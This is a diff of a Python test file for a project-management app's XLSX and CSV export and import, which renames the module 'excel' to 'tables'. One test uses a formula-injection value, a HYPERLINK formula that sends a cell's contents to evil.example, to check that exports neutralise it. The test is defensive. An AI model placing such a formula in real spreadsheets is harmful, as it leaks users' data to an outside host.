@@ -9,7 +9,7 @@ from openpyxl import load_workbook
 
 from duikou.core import testing
 from duikou.core.models import Job
-from duikou.projects import excel
+from duikou.projects import tables
 from duikou.projects import testing as pt
 from duikou.projects.models import Activity, Project
 
@@ -87,15 +87,15 @@ def as_decimal(rows, columns):
 
 
 def test_exported_xlsx_reads_back_to_the_same_rows(world):
-    _name, content = excel.export_file(kind="projects", user=world["editor"], filters={}, fmt="xlsx")
+    _name, content = tables.export_file(kind="projects", user=world["editor"], filters={}, fmt="xlsx")
     header, rows = read_xlsx(content)
-    assert header == [c.header for c in excel.PROJECT_COLUMNS]
+    assert header == [c.header for c in tables.PROJECT_COLUMNS]
     assert as_decimal(rows, [6, 7, 8]) == expected_project_rows(world["editor"])
     assert not any("延安" in str(cell) for row in rows for cell in row)  # out of scope, not exported
 
 
 def test_exported_csv_reads_back_to_the_same_rows(world):
-    _name, content = excel.export_file(kind="projects", user=world["editor"], filters={}, fmt="csv")
+    _name, content = tables.export_file(kind="projects", user=world["editor"], filters={}, fmt="csv")
     assert content.startswith("\ufeff".encode())  # Excel opens UTF-8 CSV with a BOM correctly
     rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
     expected = [["" if v is None else str(v) for v in row] for row in expected_project_rows(world["editor"])]
@@ -104,16 +104,16 @@ def test_exported_csv_reads_back_to_the_same_rows(world):
 
 def test_export_reimports_without_change(world):
     for fmt in ("xlsx", "csv"):
-        _name, content = excel.export_file(kind="projects", user=world["editor"], filters={}, fmt=fmt)
-        result = excel.import_projects(user=world["editor"], data=content, filename=f"p.{fmt}")
+        _name, content = tables.export_file(kind="projects", user=world["editor"], filters={}, fmt=fmt)
+        result = tables.import_projects(user=world["editor"], data=content, filename=f"p.{fmt}")
         assert (result["created"], result["updated"], result["unchanged"]) == (0, 0, 2), fmt
-        _name, content = excel.export_file(kind="activities", user=world["editor"], filters={}, fmt=fmt)
-        result = excel.import_activities(user=world["editor"], data=content, filename=f"a.{fmt}")
+        _name, content = tables.export_file(kind="activities", user=world["editor"], filters={}, fmt=fmt)
+        result = tables.import_activities(user=world["editor"], data=content, filename=f"a.{fmt}")
         assert (result["created"], result["updated"], result["unchanged"]) == (0, 0, 2), fmt
 
 
 def test_activities_export_reads_back(world):
-    _name, content = excel.export_file(kind="activities", user=world["editor"], filters={}, fmt="xlsx")
+    _name, content = tables.export_file(kind="activities", user=world["editor"], filters={}, fmt="xlsx")
     header, rows = read_xlsx(content)
     assert header[:5] == ["结对编号", "类型", "重点任务", "日期", "标题"]
     by_title = {row[4]: dict(zip(header, row, strict=True)) for row in rows}
@@ -126,10 +126,10 @@ def test_activities_export_reads_back(world):
 
 
 def test_filtered_export_holds_only_the_filtered_rows(world):
-    _name, content = excel.export_file(kind="projects", user=world["editor"], filters={"status": "signed"}, fmt="xlsx")
+    _name, content = tables.export_file(kind="projects", user=world["editor"], filters={"status": "signed"}, fmt="xlsx")
     _header, rows = read_xlsx(content)
     assert [r[1] for r in rows] == ["茶叶精深加工"]
-    _name, content = excel.export_file(kind="activities", user=world["editor"], filters={"kind": "visit"}, fmt="csv")
+    _name, content = tables.export_file(kind="activities", user=world["editor"], filters={"kind": "visit"}, fmt="csv")
     assert "苏州代表团来访" in content.decode("utf-8-sig") and "信阳毛尖" not in content.decode("utf-8-sig")
 
 
@@ -191,17 +191,17 @@ LINK = '=HYPERLINK("http://evil.example/?d="&A2,"点击")'
 
 def test_formula_text_is_never_a_live_formula_in_either_export_and_reimports_unchanged(world):
     pt.project(world["xinyang"], LINK, note="-1+2")
-    _name, content = excel.export_file(kind="projects", user=world["editor"], filters={}, fmt="xlsx")
+    _name, content = tables.export_file(kind="projects", user=world["editor"], filters={}, fmt="xlsx")
     sheet = load_workbook(io.BytesIO(content)).worksheets[0]
     row = next(r for r in sheet.iter_rows(min_row=2) if r[1].value != "苏信电子信息产业园" and "茶叶" not in r[1].value)
     assert (row[1].value, row[1].data_type) == ("'" + LINK, "s")
     assert (row[12].value, row[12].data_type) == ("'-1+2", "s")
     assert not [c.coordinate for r in sheet.iter_rows() for c in r if c.data_type == "f"]
     assert isinstance(row[6].value, int | float)  # an investment stays a number
-    _name, text = excel.export_file(kind="projects", user=world["editor"], filters={}, fmt="csv")
+    _name, text = tables.export_file(kind="projects", user=world["editor"], filters={}, fmt="csv")
     rows = list(csv.reader(io.StringIO(text.decode("utf-8-sig"))))
     assert ["'" + LINK, "'-1+2"] in [[r[1], r[12]] for r in rows]
     for data, fmt in ((content, "xlsx"), (text, "csv")):
-        result = excel.import_projects(user=world["editor"], data=data, filename=f"p.{fmt}")
+        result = tables.import_projects(user=world["editor"], data=data, filename=f"p.{fmt}")
         assert (result["created"], result["updated"], result["unchanged"]) == (0, 0, 3), fmt
     assert Project.objects.filter(name=LINK, note="-1+2").count() == 1
